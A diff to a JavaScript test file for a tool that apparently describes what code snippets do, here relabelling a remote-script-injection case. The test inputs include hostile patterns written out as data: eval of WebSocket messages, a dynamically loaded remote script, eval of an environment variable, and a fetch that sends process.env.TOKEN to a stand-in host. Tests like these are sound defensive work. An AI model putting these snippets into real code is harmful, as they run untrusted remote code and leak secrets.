@@ -111,7 +111,7 @@ describe("what a program does", () => {
       ['connects "//h"', 'runs text fetched "//h"'],
     ],
     ['const w = new WebSocket("//h"); w.onmessage = (e) => eval(e.data)', ['connects "//h"', 'runs text fetched "//h"']],
-    ['const s = document.createElement("script"); s.src = "//h/x.js"', ['connects "//h/x.js"', 'runs text fetched "//h/x.js"']],
+    ['const s = document.createElement("script"); s.src = "//h/x.js"', ['connects "//h/x.js"', 'runs script fetched "//h/x.js"']],
     ['require("dns").lookup("a.b", () => 0)', ['looks up "a.b"']],
     ["eval(process.env.X)", ["runs text environment X"]],
     ['fetch("//h/" + process.env.TOKEN)', ['connects "//h/"+environment TOKEN']],
